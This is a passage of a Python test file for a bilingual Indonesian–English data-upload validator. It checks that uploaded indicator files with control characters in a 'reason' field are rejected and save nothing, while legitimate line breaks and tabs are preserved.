    with engine.begin() as conn, pytest.raises(UploadError) as caught:
        apply(conn, registry, catalogue, BANDUNG, p)
    assert caught.value.message.text("id") == (
        "isian.csv: 1 masalah; perbaiki berkas lalu unggah lagi; tidak ada yang tersimpan")
    assert str(caught.value) == (
        "isian.csv: 1 problem; fix the file and upload it again; nothing was saved")


# ------------------------------------------------------------ text at the edge (issue 10)


def test_control_characters_in_an_uploaded_reason_are_refused(
        engine: sa.Engine, registry: Registry, catalogue: dict[str, Indicator]) -> None:
    data = csv_file(f"{IND},kabkota,32.73,Kota Bandung,2024,70,rekap\x01final",
                    f"{IND},kecamatan,32.73.01,Sukasari,2024,71,\x1b[2J")
    p = run_preview(engine, registry, catalogue, data)
    assert english(p) == (
        "row 2, column reason: the character U+0001 at position 6 is not allowed (a control "
        "character); type the text again without it",
        "row 3, column reason: the character U+001B at position 1 is not allowed (a control "
        "character); type the text again without it")
    assert p.errors[0].text("id") == (
        "baris 2, kolom reason: karakter U+0001 pada posisi 6 tidak boleh (karakter kendali); "
        "ketik ulang teks tanpa karakter itu")
    with engine.begin() as conn, pytest.raises(UploadError):
        apply(conn, registry, catalogue, BANDUNG, p)
    assert snapshot(engine) == ([], [])


def test_an_uploaded_reason_keeps_its_lines(engine: sa.Engine, registry: Registry,
                                            catalogue: dict[str, Indicator]) -> None:
    rows = [[IND, "kabkota", "32.73", "Kota Bandung", 2024, 70, "rekap\r\nBawaslu\tfinal"]]
    p = run_preview(engine, registry, catalogue, xlsx(rows), "isian.xlsx")
    assert p.ok, p.errors
    with engine.begin() as conn:
        apply(conn, registry, catalogue, BANDUNG, p)
    with engine.connect() as conn:
        assert conn.scalar(sa.select(observation.c.reason)) == "rekap\nBawaslu\tfinal"
